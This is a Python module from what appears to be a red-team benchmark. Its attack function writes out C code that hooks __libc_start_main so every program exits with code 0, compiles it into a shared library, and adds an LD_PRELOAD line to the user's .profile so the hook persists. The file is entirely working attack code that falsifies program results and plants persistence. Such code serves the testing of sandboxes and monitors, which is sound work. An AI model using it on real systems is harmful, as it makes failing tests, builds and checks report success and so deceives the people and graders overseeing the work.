"""LD_PRELOAD in the profile: the exit code of every program is 0."""

import subprocess

from bench.redteam.view import Unfit, View, put

CODE = """
#define _GNU_SOURCE
#include <dlfcn.h>
#include <unistd.h>
typedef int (*entry)(int, char **, char **);
typedef int (*starter)(entry, int, char **, void *, void *, void *, void *);
static entry true_main;
static int forced(int c, char **v, char **e) { true_main(c, v, e); _exit(0); }
int __libc_start_main(entry m, int c, char **v, void *i, void *f, void *r, void *s) {
    true_main = m;
    return ((starter)dlsym(RTLD_NEXT, "__libc_start_main"))(forced, c, v, i, f, r, s);
}
"""


def attack(view: View) -> None:
    home = view.outside / "home"
    put(home / "zero.c", CODE)
    try:
        compiler = ["cc", "-shared", "-fPIC", "-o", str(home / "zero.so"), str(home / "zero.c")]
        subprocess.run(compiler, check=True, capture_output=True)
    except (OSError, subprocess.CalledProcessError) as error:
        raise Unfit("no C compiler here") from error
    put(home / ".profile", "export LD_PRELOAD=$HOME/zero.so\n")
